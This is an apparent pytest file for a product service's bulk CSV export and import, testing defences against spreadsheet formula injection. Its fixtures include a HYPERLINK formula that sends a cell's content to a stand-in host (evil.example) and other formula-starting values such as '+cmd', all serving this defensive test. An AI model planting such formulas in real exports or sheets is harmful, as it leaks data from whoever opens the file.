"""CSV formula injection: exports and error files never hand a spreadsheet a formula, and an
export imports back unchanged (the importer removes the `'` the export added)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx

from app.container import Container
from tests.bulk_support import (
    CSV,
    NDJSON,
    all_products,
    download,
    imported,
    line,
    product_lines,
    run_job,
    to_csv,
    to_jsonl,
)
from tests.product_support import provider
from tests.test_bulk_export_shopify import _comparable

NewClient = Callable[..., httpx.AsyncClient]

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "subtitle": "+SUM(1,2)",
}


async def test_an_export_neutralises_formulas_and_imports_back_unchanged(
    client: httpx.AsyncClient, container: Container, new_client: NewClient
) -> None:
    a = await provider(client)
    rows = [
        *product_lines("@evil-1", sizes=("S",), **FORMULAS),
        # A title that already starts with a quote before a formula character, and one that
        # is a negative number: both must come back exactly.
        *product_lines("quoted-1", sizes=("M",), title="'=already quoted", subtitle="-3"),
    ]
    rows[0]["out_sku_id"] = "-2+3"
    job = await imported(a, container, to_jsonl(rows), NDJSON)
    assert job["failed"] == 0, await download(a, f"/v1/bulk-jobs/{job['id']}/errors")

    r = await a.post("/v1/products/bulk-exports", {"format": "csv"})
    await run_job(container, r.json()["id"])
    exported = (await a.get(f"/v1/bulk-jobs/{r.json()['id']}/file")).content
    cells = {row["out_sku_id"]: row for row in csv.DictReader(io.StringIO(exported.decode()))}
    formula = cells["'-2+3"]
    assert formula["out_product_id"] == "'@evil-1"
    assert formula["title"] == "'" + FORMULAS["title"]
    assert formula["subtitle"] == "'+SUM(1,2)"
    assert formula["price"] == "19900"  # numbers are left as they are
    quoted = cells["quoted-1-M"]
    assert quoted["title"] == "''=already quoted"
    assert quoted["subtitle"] == "-3"
    # No cell of the file starts like a formula.
    for row in csv.reader(io.StringIO(exported.decode())):
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (
                cell.startswith("-") and not cell.lstrip("-").isdigit()
            ), cell

    b = await provider(new_client())
    job = await imported(b, container, exported, CSV)
    assert job["failed"] == 0, await download(b, f"/v1/bulk-jobs/{job['id']}/errors")
    assert _comparable(await all_products(b)) == _comparable(await all_products(a))
    by_out = {p["out_product_id"]: p for p in await all_products(b)}
    assert by_out["@evil-1"]["title"] == FORMULAS["title"]
    assert by_out["@evil-1"]["skus"][0]["out_sku_id"] == "-2+3"
    assert by_out["quoted-1"]["title"] == "'=already quoted"
    assert by_out["quoted-1"]["subtitle"] == "-3"


async def test_the_importer_reads_a_quoted_formula_as_its_text_and_numbers_as_numbers(
    client: httpx.AsyncClient, container: Container
) -> None:
    p = await provider(client)
    rows = product_lines("erp-q", sizes=("S",), title="'=1+1", subtitle="'@home")
    job = await imported(p, container, to_csv(rows), CSV)
    assert job["failed"] == 0
    [product] = await all_products(p)
    assert (product["title"], product["subtitle"]) == ("=1+1", "@home")
    # A negative stock is a number (and refused as one), not text with a quote taken off.
    bad = to_csv([line("erp-q", out_sku_id="erp-q-S", stock=-3)])
    job = await imported(p, container, bad, CSV)
    [error] = await download(p, f"/v1/bulk-jobs/{job['id']}/errors")
    assert error["field"] == "stock" and error["code"] == "greater_than_equal"


async def test_the_error_file_neutralises_what_the_upload_sent(
    client: httpx.AsyncClient, container: Container
) -> None:
    p = await provider(client)
    rows = product_lines("=HYPERLINK(1)", sizes=("S",))
    rows[0]["price"] = 0
    rows[0]["out_sku_id"] = "+cmd"
    job = await imported(p, container, to_jsonl(rows), NDJSON)
    assert job["failed"] == 1
    r = await p.get(f"/v1/bulk-jobs/{job['id']}/errors", format="csv")
    [error] = list(csv.DictReader(io.StringIO(r.text)))
    assert error["out_product_id"] == "'=HYPERLINK(1)"
    assert error["out_sku_id"] == "'+cmd"
    report = await p.get(f"/v1/bulk-jobs/{job['id']}/report", format="csv")
    [row] = list(csv.DictReader(io.StringIO(report.text)))
    assert row["out_product_id"] == "'=HYPERLINK(1)"
    # JSON Lines is no spreadsheet format: the values are as sent.
    [error] = await download(p, f"/v1/bulk-jobs/{job['id']}/errors")
    assert error["out_product_id"] == "=HYPERLINK(1)"
